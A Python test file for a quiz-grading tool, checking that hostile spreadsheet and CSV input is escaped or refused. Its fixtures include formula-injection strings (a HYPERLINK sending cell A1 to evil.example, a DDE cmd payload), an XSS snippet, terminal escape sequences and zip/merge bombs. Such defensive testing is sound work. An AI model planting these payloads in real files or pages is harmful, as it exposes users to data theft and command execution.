"""Hostile and messy tables, rosters and exports: each ends in the right result or a one-line
error at its file:row:col, never a guessed score, a live formula, raw control characters or a
traceback. Every fixture is made here, small on disk."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from generator.quiz.scoring import Trainee
from generator.results.result_files import scores_csv, scores_xlsx
from generator.results.roster import read_roster
from generator.results.tables import MAX_FIELD_CHARS, decode_text, read_table, read_tables

from .helpers import REPO, hand_rows, moodle_rows, quizzes, random_answers, write_csv, write_xlsx

CLI_IN_PROCESS = True
"""`cli` runs `playbook grade` and `report` through the CLI in this process: these tests are about
what hostile input does to what they write and say."""

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1",
                 "＝1+1", "=cmd|' /C calc'!A0"]

MARKUP = "<img src=x onerror=alert(1)><script>alert(2)</script>"


def _markup_shown_as_text(page: Path) -> None:
    """A name with HTML in it reaches a page as the text it is, never as an element."""
    html = page.read_text(encoding="utf-8")
    assert MARKUP not in html and "<img src=x" not in html and "<script>alert" not in html, page.name
    assert "&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(2)&lt;/script&gt;" in html, page.name


def _people(n: int, seed: int = 5, label: str = "A") -> list[tuple[Trainee, str, dict[str, list[int]]]]:
    rng = random.Random(seed)
    quiz = quizzes()[label]
    return [(Trainee(f"学员{i}", f"E{i:03d}", "一店", "置业顾问"), label, random_answers(quiz, rng, 0.7))
            for i in range(n)]


def _all_right(quiz: dict) -> dict[str, list[int]]:
    return {q["id"]: (list(q["answer"]) if isinstance(q["answer"], list) else [q["answer"]]) for q in quiz["questions"]}


@pytest.fixture(scope="module")
def quiz_dir(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("quiz")
    for label, quiz in quizzes().items():
        (d / f"quiz-{label}.json").write_text(json.dumps(quiz, ensure_ascii=False), encoding="utf-8")
    return d


# --- formula injection and control characters, end to end -----------------------------------------


@pytest.mark.slow
def test_formulas_and_control_characters_from_input_stay_text(quiz_dir, tmp_path, cli):
    people = []
    for i, (t, label, answers) in enumerate(_people(len(HOSTILE_NAMES))):
        people.append((Trainee(HOSTILE_NAMES[i], f"=E{i}", "=1+1" if i % 2 else "@店", "-岗位"), label, answers))
    people.append((Trainee("控制\x1b[31m字符\x07", "E999", "一店", "置业顾问"), "A", _all_right(quizzes()["A"])))
    people.append((Trainee(MARKUP, "E998", "<b>店</b>", "置业顾问"), "A", _all_right(quizzes()["A"])))
    rows = hand_rows(quizzes(), people)
    choice = next(n for n, q in enumerate(quizzes()["A"]["questions"]) if not isinstance(q["answer"], list))
    rows[-1][5 + choice] = "AB"  # two answers: the markup name gets a card in review.html
    table = write_csv(tmp_path / "=evil.csv", rows)
    out = tmp_path / "results"
    r = cli("grade", str(table), "--quiz", str(quiz_dir), "--out", str(out), cwd=tmp_path)
    assert r.code == 0, r.err
    assert "Traceback" not in r.err and "\x1b" not in r.out + r.err and "\x07" not in r.out + r.err
    _markup_shown_as_text(out / "review.html")

    with (out / "scores.csv").open(encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")], "a formula start left unguarded"

    ws = load_workbook(out / "scores.xlsx").active
    values = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in values if c.data_type == "f"]
    names = [c.value for c in values if isinstance(c.value, str)]
    assert HOSTILE_NAMES[0] in names  # kept as the text it was, typed as a string
    assert "控制\\x1b[31m字符\\x07" in names  # a control character, kept visible as an escape

    report_out = tmp_path / "report"
    r = cli("report", str(out / "results.json"), "--out", str(report_out), "--content", str(REPO / "content"),
            "--quizzes", str(REPO / "quizzes"), cwd=tmp_path)
    assert r.code == 0, r.err
    _markup_shown_as_text(report_out / "report.html")
    _markup_shown_as_text(report_out / "trainees.html")
    wb = load_workbook(report_out / "report.xlsx")
    formulas = [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert HOSTILE_NAMES[0] in [c.value for row in wb["成绩"].iter_rows() for c in row]


def test_cells_xlsx_forbids_are_escaped_and_formula_starts_stay_text(tmp_path):
    """The writers themselves, fed raw text (not yet escaped by the readers): no control character
    makes the XLSX fail or go missing, no text becomes a formula, numbers stay numbers."""
    texts = ["a\x00b", "\x1b[31m红", "\x07\x0b\x0c", *HOSTILE_NAMES, "-", "普通"]
    table = [["姓名", "得分"]] + [[t, -1.5] for t in texts]
    path = tmp_path / "s.xlsx"
    path.write_bytes(scores_xlsx(table))
    rows = list(load_workbook(path).active.iter_rows(min_row=2))
    assert [r[0].value for r in rows][:3] == ["a\\x00b", "\\x1b[31m红", "\\x07\\x0b\\x0c"]
    assert [r[0].value for r in rows][3:] == [*HOSTILE_NAMES, "-", "普通"]
    assert all(r[0].data_type == "s" for r in rows) and all(r[1].value == -1.5 for r in rows)
    cells = list(csv.reader(io.StringIO(scores_csv(table).decode("utf-8-sig"), newline="")))
    assert [row[0] for row in cells[1:]][3:] == ["'" + t for t in HOSTILE_NAMES] + ["'-", "普通"]
    assert all(row[1] == "-1.5" for row in cells[1:])  # a number is no formula: left as it is


def test_a_file_name_that_is_not_utf8_is_named_visibly(quiz_dir, tmp_path, cli):
    """成绩.csv saved by a Chinese Windows PC and unzipped here: its name is GBK bytes, not UTF-8. It is
    graded, and named as \\xNN in messages, results.json and the tables (it used to be an internal error)."""
    qs = quizzes()
    quiz = qs["A"]
    people = [(t, a) for t, _, a in _people(2)]
    rows = moodle_rows(quiz, people, chinese=True, order=list(range(len(quiz["questions"]))), question_text=True)
    name = os.fsdecode("成绩".encode("gbk") + b".csv")
    write_csv(tmp_path / name, rows)
    out = tmp_path / "results"
    r = cli("grade", name, "--quiz", str(quiz_dir), "--out", str(out), cwd=tmp_path)
    assert r.code == 0 and "Traceback" not in r.err and "内部错误" not in r.err, r.err
    shown = ("成绩".encode("gbk") + b".csv").decode("utf-8", "backslashreplace")  # \\xb3ɼ\\xa8.csv
    assert shown.startswith("\\xb3")
    assert shown in r.out  # the note saying how the export was read
    data = json.loads((out / "results.json").read_text(encoding="utf-8"))
    assert [s["source"] for s in data["sheets"]] == [f"{shown} 第 {n} 行" for n in (2, 3)]


def test_control_characters_in_a_header_are_escaped_in_messages(tmp_path):
    rows = hand_rows(quizzes(), _people(1))
    rows[0].append("坏\x1b]0;owned\x07列")
    rows[1].append("")
    sheets, problems = read_table(write_csv(tmp_path / "t.csv", rows), quizzes(), None)
    assert len(sheets) == 1
    line = next(p.format() for p in problems if p.code == "T002")
    assert "\x1b" not in line and "\x07" not in line and "\\x1b]0;owned\\x07" in line


# --- never a guessed score ----------------------------------------------------------------------


def test_moodle_slots_in_another_order_with_question_text_score_right(tmp_path):
    qs = quizzes()
    quiz = qs["A"]
    best = Trainee("满分", "E1", "一店", "置业顾问")
    order = list(reversed(range(len(quiz["questions"]))))
    rows = moodle_rows(quiz, [(best, _all_right(quiz))], chinese=True, order=order, question_text=True)
    sheets, problems = read_table(write_csv(tmp_path / "m.csv", rows), qs, None)
    assert [p for p in problems if p.is_error] == []
    assert [s.score for s in sheets] == [100.0]


def test_a_row_cut_short_is_an_error_not_blanks(tmp_path):
    rows = hand_rows(quizzes(), _people(3))
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    lines = buf.getvalue().split("\r\n")
    lines[2] = ",".join(lines[2].split(",")[:8])  # the second trainee's row lost its last columns
    path = tmp_path / "cut.csv"
    path.write_text("\r\n".join(lines), encoding="utf-8")
    sheets, problems = read_table(path, quizzes(), None)
    assert [s.trainee.name for s in sheets] == ["学员0", "学员2"]
    assert [(p.code, p.line, p.col) for p in problems] == [("T014", 3, 9)]


def test_a_download_cut_inside_a_quoted_cell_is_refused(tmp_path):
    path = tmp_path / "cut.csv"
    path.write_text('姓名,1\n张伟,A\n李娜,"B', encoding="utf-8")
    sheets, problems = read_table(path, {"A": quizzes()["A"]}, None)
    assert sheets == [] and [(p.code, p.line) for p in problems] == [("T014", 3)]


def test_the_same_export_twice_and_a_trainee_in_two_files_count_once(tmp_path):
    qs = quizzes()
    people = _people(3)
    first = write_csv(tmp_path / "a.csv", hand_rows(qs, people))
    again = write_csv(tmp_path / "a-copy.csv", hand_rows(qs, people))
    other = write_csv(tmp_path / "b.csv", hand_rows(qs, people[:1]) + [["", "", "", "", ""]])
    got = read_tables([first, again, other], qs, None)
    assert len(got.sheets) == 3
    assert [(Path(p.file).name, p.code) for p in got.problems] == [("a-copy.csv", "T017"), ("b.csv", "T005")]
    assert "a.csv 第 2 行" in got.problems[1].message


def test_a_name_shared_by_two_people_on_the_roster_is_never_given_to_one(tmp_path):
    qs = {"A": quizzes()["A"]}
    roster = [Trainee("张伟", "E001", "一店"), Trainee("张伟", "E002", "二店"), Trainee("李娜", "E003", "一店")]
    answers = _all_right(qs["A"])
    people = [(Trainee("张伟"), "A", answers), (Trainee("张伟", "E002"), "A", answers),
              (Trainee("李娜", "E001"), "A", answers)]
    sheets, problems = read_table(write_csv(tmp_path / "t.csv", hand_rows(qs, people)), qs, roster)
    assert [(s.trainee.name, s.trainee.id, s.trainee.store) for s in sheets] == [("张伟", "E002", "二店")]
    assert [(p.code, p.line) for p in problems] == [("T015", 2), ("T015", 4)]
    assert "E001、E002" in problems[0].message and "「张伟」" in problems[1].message


def test_a_staff_id_excel_stripped_of_its_zeros_is_flagged_with_the_reason(tmp_path):
    """工号 001 typed into a number cell reads 1: not guessed to be 001, refused with why (T015)."""
    qs = {"A": quizzes()["A"]}
    roster = [Trainee("张伟", "001", "一店"), Trainee("李娜", "E003", "一店")]
    answers = _all_right(qs["A"])
    rows = hand_rows(qs, [(Trainee("张伟", "001"), "A", answers), (Trainee("李娜", "3"), "A", answers)])
    rows[1][1] = 1  # as Excel keeps it
    sheets, problems = read_table(write_xlsx(tmp_path / "t.xlsx", rows), qs, roster)
    assert sheets == [] and [(p.code, p.line) for p in problems] == [("T015", 2), ("T015", 3)]
    assert "去掉了前面的 0" in problems[0].message and "去掉了前面的 0" not in problems[1].message


def test_a_staff_id_column_formatted_000_reads_as_the_sheet_shows_it(tmp_path):
    """工号 typed as numbers in a column formatted "000" (Excel shows 001, the cell holds 1): the
    roster and the answers read 001, as the trainer sees them, and grade against each other."""
    qs = {"A": quizzes()["A"]}
    answers = _all_right(qs["A"])
    people = [(Trainee("张伟", "001"), "A", answers), (Trainee("李娜", "023"), "A", answers),
              (Trainee("王芳", "12345"), "A", answers)]
    rows = hand_rows(qs, people)
    for row in rows[1:]:
        row[1] = int(row[1])  # a number, as Excel keeps what is typed into a number cell

    def padded(path: Path, rows: list[list[object]], column: int) -> Path:
        wb = Workbook()
        for row in rows:
            wb.active.append(row)
        for (cell,) in wb.active.iter_rows(min_row=2, min_col=column, max_col=column):
            cell.number_format = "000"
        wb.save(path)
        return path

    roster_rows = [["姓名", "工号", "门店"]] + [[t.name, int(t.id), "一店"] for t, _, _ in people]
    roster, problems = read_roster(padded(tmp_path / "名单.xlsx", roster_rows, 2))
    assert problems == [] and [t.id for t in roster] == ["001", "023", "12345"]
    sheets, problems = read_table(padded(tmp_path / "成绩.xlsx", rows, 2), qs, roster)
    assert problems == [] and [(s.trainee.name, s.trainee.id, s.score) for s in sheets] == [
        ("张伟", "001", 100.0), ("李娜", "023", 100.0), ("王芳", "12345", 100.0)]
    # Without the format Excel shows what the cells hold, 1 and 23: refused as not 001, 023 (T015).
    sheets, problems = read_table(write_xlsx(tmp_path / "plain.xlsx", rows), qs, roster)
    assert [s.trainee.name for s in sheets] == ["王芳"] and [(p.code, p.line) for p in problems] == [
        ("T015", 2), ("T015", 3)]


def test_spreadsheets_in_formats_not_read_are_named_with_the_fix(quiz_dir, tmp_path, cli):
    """A WPS .et, an .ods or an old .xls (answers or roster) is refused as the spreadsheet it is, with
    how to save it, never taken for a scan ("no answer-sheet layouts") or read as CSV bytes."""
    rows = write_xlsx(tmp_path / "rows.xlsx", [["姓名", "工号"], ["张伟", "E001"]]).read_bytes()
    for suffix in (".et", ".ods", ".xls"):
        (tmp_path / f"成绩{suffix}").write_bytes(rows + suffix.encode())  # distinct bytes: no T017
    (tmp_path / "名单.xls").write_bytes(rows)
    trainees, problems = read_roster(tmp_path / "名单.xls")
    assert trainees == [] and [p.code for p in problems] == ["T001"] and "Excel 97-2003" in problems[0].message
    run = cli("grade", "--quiz", str(quiz_dir), *(str(tmp_path / f"成绩{s}") for s in (".et", ".ods", ".xls")),
              "--out", str(tmp_path / "out"))
    assert run.code == 1 and "Traceback" not in run.err and "G007" not in run.err
    assert [line.split(": ", 1)[0] for line in run.err.splitlines() if "error[" in line] == [
        f"{tmp_path / f'成绩{s}'}:1:1" for s in (".et", ".ods", ".xls")]
    assert "WPS 表格" in run.err and "另存为 .xlsx" in run.err and not (tmp_path / "out").exists()


def test_big5_and_utf16_rosters_read_right_and_an_unclear_encoding_is_refused(tmp_path):
    text = "姓名,工號,門市\n張偉,001,台北門市\n陳美玲,002,高雄門市\n林志明,003,台中門市\n"
    for encoding in ("big5", "utf-16", "gb18030", "utf-8-sig"):
        path = tmp_path / f"roster-{encoding}.csv"
        path.write_bytes(text.encode(encoding))
        trainees, problems = read_roster(path)
        assert problems == [], encoding
        assert [t.name for t in trainees] == ["張偉", "陳美玲", "林志明"], encoding
        assert trainees[0].store == "台北門市"
    simplified = "姓名,工号\n张伟,1\n李娜,2\n王芳,3\n"
    assert decode_text(simplified.encode("gb18030"))[1] == "GB18030"
    text, why = decode_text(bytes([0xB0, 0xA1, 0xB0, 0xA2]) * 2)  # common characters in both: no guess
    assert text is None and "分不清" in why


def test_every_worksheet_is_read(tmp_path):
    qs = quizzes()
    wb = Workbook()
    first = wb.active
    first.title = "一店"
    for row in hand_rows(qs, _people(2)):
        first.append(row)
    second = wb.create_sheet("二店")
    for row in hand_rows(qs, _people(4)[2:]):
        second.append(row)
    wb.create_sheet("空白")
    path = tmp_path / "two.xlsx"
    wb.save(path)
    sheets, problems = read_table(path, qs, None)
    assert problems == []
    assert [s.trainee.name for s in sheets] == ["学员0", "学员1", "学员2", "学员3"]
    assert sheets[2].source == "two.xlsx 工作表「二店」 第 2 行"
    assert len({s.serial for s in sheets}) == 4


def _formula_workbook(path: Path, rows: list[list[str]], formulas: dict[tuple[int, int], str]) -> Path:
    """A workbook as a program writes it (openpyxl): an empty first sheet, then 二店 with ``rows``,
    the cells at the given (row, col) holding a formula instead; the file holds no formula results."""
    wb = Workbook()
    wb.active.title = "说明"
    ws = wb.create_sheet("二店")
    for row in rows:
        ws.append(row)
    for (row, col), formula in formulas.items():
        ws.cell(row, col).value = formula
    wb.save(path)
    return path


def _saved_by_a_spreadsheet(path: Path, results: dict[str, str], kind: str = "str") -> Path:
    """The same file after Excel or WPS saved it: each formula cell keeps its result, as text
    (t="str") or as an error value such as #N/A (t="e")."""
    out = path.with_name("saved-" + path.name)
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet2.xml":
                text = data.decode()
                for ref, value in results.items():
                    cell = re.search(rf'<c r="{ref}"[^>]*><f>[^<]*</f><v\s*/?>(</v>)?</c>', text)
                    assert cell, (ref, text[:400])
                    formula = re.search(r"<f>[^<]*</f>", cell.group(0)).group(0)
                    text = text.replace(cell.group(0), f'<c r="{ref}" t="{kind}">{formula}<v>{value}</v></c>')
                data = text.encode()
            dst.writestr(info, data)
    return out


def test_formula_cells_without_their_results_refuse_the_file_and_with_them_are_read(tmp_path):
    """calamine reads a formula cell whose result the file lacks as blank: scored, that is "not
    answered" for an answer the trainee gave. Such a file is refused at its first cell (T019); the
    same file saved by a spreadsheet (results kept) is graded from the results; saved with error
    values (#N/A of a failed VLOOKUP, also read as blank) it is refused again."""
    qs = quizzes()
    people = _people(2)
    rows = hand_rows(qs, people)
    answer = rows[1][5]
    assert answer  # the first answer of the first trainee: a letter
    formulas = {(2, 6): f'="{answer}"', (3, 2): '=""&"E001"', (3, 3): "=1+1"}
    path = _formula_workbook(tmp_path / "formulas.xlsx", rows, formulas)
    sheets, problems = read_table(path, qs, None)
    assert sheets == []
    assert [(p.code, p.line, p.col) for p in problems] == [("T019", 2, 6)]
    assert "工作表「二店」的 F2 格是公式" in problems[0].message and "共 3 个" in problems[0].message

    saved = _saved_by_a_spreadsheet(path, {"F2": answer, "B3": "E001", "C3": "2"})
    sheets, problems = read_table(saved, qs, None)
    assert problems == []
    assert [s.trainee.id for s in sheets] == ["E000", "E001"]
    want, _ = read_table(write_csv(tmp_path / "same.csv", rows), qs, None)
    assert [s.score for s in sheets] == [s.score for s in want]

    # saved with the answer's VLOOKUP failing: #N/A, which calamine also reads as blank
    failed = _saved_by_a_spreadsheet(path, {"F2": "#N/A", "B3": "#REF!", "C3": "#N/A"}, kind="e")
    sheets, problems = read_table(failed, qs, None)
    assert sheets == [] and [(p.code, p.line, p.col) for p in problems] == [("T019", 2, 6)]
    assert "F2 格显示 #N/A（公式出错" in problems[0].message and "共 3 个" in problems[0].message


def test_merged_cells_read_as_the_spreadsheet_shows_them(tmp_path):
    """门店 merged down over a store's staff, 卷 merged over the rows of one paper: every row reads
    the merged value (calamine gives it to the first cell only; the rest would be blanks)."""
    qs = quizzes()
    people = _people(4)
    rows = hand_rows(qs, people)
    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    assert [(row[2], row[4]) for row in rows[1:]] == [("一店", "A")] * 4
    ws.merge_cells("C2:C5")  # 门店
    ws.merge_cells("E2:E5")  # 卷
    path = tmp_path / "merged.xlsx"
    wb.save(path)
    sheets, problems = read_table(path, qs, None)
    want, _ = read_table(write_csv(tmp_path / "plain.csv", rows), qs, None)
    assert problems == []
    assert [(s.trainee, s.version, s.score) for s in sheets] == [(s.trainee, s.version, s.score) for s in want]
    assert {s.trainee.store for s in sheets} == {"一店"}

    roster = Workbook()
    ws = roster.active
    for row in (["姓名", "工号", "门店"], ["张三", "E001", "二店"], ["李四", "E002", None], ["王五", "E003", "三店"]):
        ws.append(row)
    ws.merge_cells("C2:C3")
    roster.save(tmp_path / "roster.xlsx")
    trainees, problems = read_roster(tmp_path / "roster.xlsx")
    assert problems == [] and [t.store for t in trainees] == ["二店", "二店", "三店"]


def test_overlapping_merges_past_the_cell_limit_are_refused(tmp_path):
    """A hostile workbook repeating one big merged range: refused (T016), not filled 120 times over."""
    wb = Workbook()
    ws = wb.active
    ws.append(["姓名", "1"])
    ws.merge_cells("A2:Z2000")
    ws["AA2001"] = "x"  # a used area of 54,000 cells (outside the range: merging empties the rest)
    path = tmp_path / "merges.xlsx"
    wb.save(path)
    with zipfile.ZipFile(path) as src:
        parts = {info.filename: src.read(info.filename) for info in src.infolist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    one = re.search(r'<mergeCell ref="A2:Z2000"\s*/>', sheet).group(0)
    parts["xl/worksheets/sheet1.xml"] = re.sub(r'<mergeCells count="1">.*?</mergeCells>',
                                               f'<mergeCells count="120">{one * 120}</mergeCells>', sheet).encode()
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in parts.items():
            dst.writestr(name, data)
    sheets, problems = read_table(bomb, quizzes(), None)
    assert sheets == [] and [p.code for p in problems] == ["T016"] and "合并单元格" in problems[0].message


def test_a_hidden_lookup_sheet_is_skipped_with_a_warning_and_hidden_answers_are_still_read(tmp_path):
    """A hidden 答案 sheet behind a VLOOKUP is not a table of answers: a warning, not an error that
    stops the grading. A hidden sheet that is one (a store's answers) is still read, never dropped."""
    qs = quizzes()
    wb = Workbook()
    wb.active.title = "一店"
    for row in hand_rows(qs, _people(2)):
        wb.active.append(row)
    lookup = wb.create_sheet("答案")
    for row in (["题号", "答案"], [1, "A"], [2, "C"]):
        lookup.append(row)
    second = wb.create_sheet("二店")
    for row in hand_rows(qs, _people(4)[2:]):
        second.append(row)
    lookup.sheet_state = second.sheet_state = "hidden"
    wb.save(tmp_path / "hidden.xlsx")
    sheets, problems = read_table(tmp_path / "hidden.xlsx", qs, None)
    assert [s.trainee.name for s in sheets] == ["学员0", "学员1", "学员2", "学员3"]
    assert [(p.code, p.severity) for p in problems] == [("T002", "warning")] and "「答案」" in problems[0].message

    roster = Workbook()
    for row in (["姓名", "工号"], ["张伟", "E001"]):
        roster.active.append(row)
    helper = roster.create_sheet("门店代码")
    helper.append(["一店", "S01"])
    helper.sheet_state = "hidden"
    roster.save(tmp_path / "roster.xlsx")
    trainees, problems = read_roster(tmp_path / "roster.xlsx")
    assert [t.id for t in trainees] == ["E001"] and [(p.code, p.severity) for p in problems] == [("G010", "warning")]


def test_odd_digits_and_letters_are_unreadable_cells_not_crashes(tmp_path):
    qs = {"A": quizzes()["A"]}
    quiz = qs["A"]
    n = next(i for i, q in enumerate(quiz["questions"], 1) if q["type"] == "ordering")
    head = ["姓名"] + [str(i) for i in range(1, len(quiz["questions"]) + 1)]
    rows = [head]
    for name, cell in (("甲", "٣٢١٤"), ("乙", "𝟑𝟐"), ("丙", "³"), ("丁", "Ⅱ")):
        rows.append([name] + [cell if i == n else "" for i in range(1, len(quiz["questions"]) + 1)])
    sheets, problems = read_table(write_csv(tmp_path / "d.csv", rows), qs, None)
    assert len(sheets) == 4 and all(p.code in ("T003", "T010") for p in problems)
    assert all(s.responses[n - 1].correct is False for s in sheets)


# --- bombs, small on disk -------------------------------------------------------------------------


def _peak_rss_mb(code: str) -> tuple[float, str]:
    # VmHWM is this process's own peak; ru_maxrss would keep the forking pytest worker's across exec
    probe = ("import re, sys\n" + code +
             "\nprint(int(re.search(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read()).group(1)) / 1024)")
    proc = subprocess.run([sys.executable, "-c", probe], cwd=REPO, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    *lines, peak = proc.stdout.strip().splitlines()
    return float(peak), "\n".join(lines)


@pytest.mark.slow
def test_a_cell_at_xfd1048576_is_refused_before_it_is_allocated(tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append(["姓名", "1"])
    ws["XFD1048576"] = "x"
    path = tmp_path / "far.xlsx"
    wb.save(path)
    assert path.stat().st_size < 20_000
    peak, out = _peak_rss_mb(
        "from pathlib import Path\nfrom generator.results.tables import read_table\n"
        "from tests.results.helpers import quizzes\n"
        f"s, p = read_table(Path({str(path)!r}), quizzes(), None)\nprint([x.code for x in p])")
    assert out == "['T016']"
    assert peak < 1500


@pytest.mark.slow
def test_a_workbook_that_inflates_to_gigabytes_is_refused(tmp_path):
    rows = write_xlsx(tmp_path / "ok.xlsx", [["姓名", "1"], ["张伟", "A"]])
    src = zipfile.ZipFile(rows)
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
        with dst.open("xl/media/padding.bin", "w", force_zip64=True) as pad:
            block = b"\0" * (1 << 20)
            for _ in range(300):
                pad.write(block)
    assert bomb.stat().st_size < 2_000_000
    sheets, problems = read_table(bomb, quizzes(), None)
    assert sheets == [] and [p.code for p in problems] == ["T016"]


def test_a_field_over_the_csv_limit_is_refused(tmp_path):
    path = tmp_path / "long.csv"
    path.write_text("姓名,1\n" + "张" * (MAX_FIELD_CHARS + 1) + ",A\n", encoding="utf-8")
    sheets, problems = read_table(path, quizzes(), None)
    assert sheets == [] and [(p.code, p.line) for p in problems] == [("T016", 2)]
    huge = tmp_path / "huge.csv"
    huge.write_text('姓名,1\n"' + "x" * 200_000 + '",A\n', encoding="utf-8")  # over csv's own limit too
    assert [p.code for p in read_table(huge, quizzes(), None)[1]] == ["T016"]
